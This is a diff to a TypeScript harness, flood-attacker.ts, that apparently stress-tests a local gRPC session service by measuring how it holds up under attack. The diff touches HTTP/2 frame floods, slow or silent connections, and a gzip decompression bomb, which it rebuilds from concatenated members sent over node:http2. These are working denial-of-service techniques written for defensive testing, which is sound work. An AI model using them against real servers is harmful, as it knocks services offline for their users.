@@ -1,5 +1,6 @@
 // A process of its own, so that what an attack costs its maker does not slow the honest callers down who are
 // measured beside it: `node flood-attacker.ts <kind> <port> <amount> <seconds>` prints one line of JSON.
+import { connect as connectHttp2 } from 'node:http2';
 import { connect, type Socket } from 'node:net';
 import { gzipSync } from 'node:zlib';
 
@@ -15,7 +16,16 @@ export interface Attacked {
 }
 
 const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
-const type = { data: 0, headers: 1, priority: 2, reset: 3, settings: 4, ping: 6, window: 8, more: 9 };
+const type = {
+  data: 0,
+  headers: 1,
+  priority: 2,
+  reset: 3,
+  settings: 4,
+  ping: 6,
+  window: 8,
+  more: 9,
+};
 const endHeaders = 4;
 const path = '/creance.v1.SessionService/RenewSession';
 
@@ -72,7 +82,10 @@ const rows: Readonly<Record<string, (at: number) => Buffer>> = {
       type.headers,
       endHeaders,
       odd(at),
-      Buffer.concat([call(), ...Array.from({ length: 100 }, (_, n) => literal(`x-${n}`, 'y'.repeat(100)))]),
+      Buffer.concat([
+        call(),
+        ...Array.from({ length: 100 }, (_, n) => literal(`x-${n}`, 'y'.repeat(100))),
+      ]),
     ),
   ping: (at) => frame(type.ping, 0, 0, Buffer.concat([word(at), word(at)])),
   settings: () => frame(type.settings, 0, 0, Buffer.concat([Buffer.from([0, 4]), word(65_535)])),
@@ -116,6 +129,18 @@ async function dial(host = 2): Promise<Socket> {
 const pause = (millis: number) => new Promise((resolve) => setTimeout(resolve, millis));
 const isOver = () => performance.now() - startedAt > Number(seconds) * 1_000;
 
+const drained = (socket: Socket) =>
+  new Promise<void>((resolve) => {
+    const done = () => {
+      socket.removeListener('drain', done);
+      socket.removeListener('close', done);
+      resolve();
+    };
+    socket.once('drain', done);
+    socket.once('close', done);
+    setTimeout(done, 500).unref();
+  });
+
 /** One connection on which frames come without end, as fast as they are taken. */
 async function flood(frameAt: (at: number) => Buffer, reads: boolean): Promise<void> {
   const socket = await dial();
@@ -125,11 +150,7 @@ async function flood(frameAt: (at: number) => Buffer, reads: boolean): Promise<v
     const batch = Array.from({ length: 100 }, (_, at) => frameAt(sent + at));
     sent += batch.length;
     if (socket.write(Buffer.concat(batch))) await pause(0);
-    else
-      await Promise.race([
-        new Promise((resolve) => socket.once('drain', resolve).once('close', resolve)),
-        pause(500),
-      ]);
+    else await Promise.race([drained(socket), pause(500)]);
   }
   while (!socket.destroyed && !isOver()) await pause(10);
 }
@@ -149,25 +170,34 @@ async function waiting(dribbles: boolean): Promise<void> {
   }
 }
 
-/** One message that is small as it comes: so many bytes of zeros. */
+/** One message that is small as it comes: so many bytes of zeros. Says the status that it is answered by. */
 async function bomb(): Promise<void> {
-  const body = gzipSync(Buffer.alloc(Number(amount)), { level: 9 });
-  const head = Buffer.concat([Buffer.from([1]), word(body.length)]);
-  const message = Buffer.concat([head, body]);
-  const socket = await dial();
-  socket.write(hello);
-  socket.write(frame(type.headers, endHeaders, 1, call({ 'grpc-encoding': 'gzip' })));
-  // Within the window that a server gives at first; what is refused needs no more.
-  for (let at = 0; at < message.length && at < 65_000; at += 16_000) {
-    const piece = message.subarray(at, Math.min(at + 16_000, 65_000));
-    socket.write(frame(type.data, at + 16_000 >= message.length ? 1 : 0, 1, piece));
-  }
-  sent = message.length;
-  while (!said.includes('grpc-status') && !isOver()) await pause(10);
+  // Several members one after the other are one gzip (RFC 1952 §2.2), and quicker to make.
+  const members = Math.max(1, Math.round(Number(amount) / 64_000_000));
+  const member = gzipSync(Buffer.alloc(Number(amount) / members), { level: 9 });
+  const body = Buffer.concat(Array<Buffer>(members).fill(member));
+  const session = connectHttp2(`http://127.0.0.1:${port}`);
+  session.on('error', () => {});
+  const stream = session.request({
+    ':method': 'POST',
+    ':path': path,
+    'content-type': 'application/grpc',
+    'grpc-encoding': 'gzip',
+    te: 'trailers',
+  });
+  stream.on('error', () => {});
+  const note = (headers: Record<string, unknown>) => {
+    said ||= `status ${headers['grpc-status'] ?? 'none'}`;
+  };
+  stream.on('response', note).on('trailers', note).resume();
+  stream.end(Buffer.concat([Buffer.from([1]), word(body.length), body]));
+  sent = body.length;
+  while (said === '' && !isOver()) await pause(10);
 }
 
 if (kind === 'silent' || kind === 'dribble') await waiting(kind === 'dribble');
 else if (kind === 'bomb') await bomb();
-else await flood(rows[kind.replace(/-deaf$/, '')] as (at: number) => Buffer, !kind.endsWith('-deaf'));
+else
+  await flood(rows[kind.replace(/-deaf$/, '')] as (at: number) => Buffer, !kind.endsWith('-deaf'));
 const attacked: Attacked = { sent, closed, closedMillis, said };
 process.stdout.write(`${JSON.stringify(attacked)}\n`, () => process.exit(0));
